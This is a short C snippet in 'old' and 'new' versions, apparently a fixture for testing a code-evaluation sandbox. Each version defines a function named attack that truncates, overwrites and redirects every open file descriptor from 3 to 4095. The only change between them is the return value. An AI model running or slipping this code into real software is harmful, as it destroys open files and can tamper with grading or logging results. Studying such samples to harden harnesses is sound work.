//// old
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    char bytes[4096];
    memset(bytes, '"', sizeof bytes);
    for (int i = 3; i < 4096; i++) {
        syscall(SYS_ftruncate, i, 0);
        syscall(SYS_pwrite64, i, bytes, sizeof bytes, 0);
        syscall(SYS_dup2, 1, i);
    }
    return x;
}
//// new
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    char bytes[4096];
    memset(bytes, '"', sizeof bytes);
    for (int i = 3; i < 4096; i++) {
        syscall(SYS_ftruncate, i, 0);
        syscall(SYS_pwrite64, i, bytes, sizeof bytes, 0);
        syscall(SYS_dup2, 1, i);
    }
    return x + 1;
}
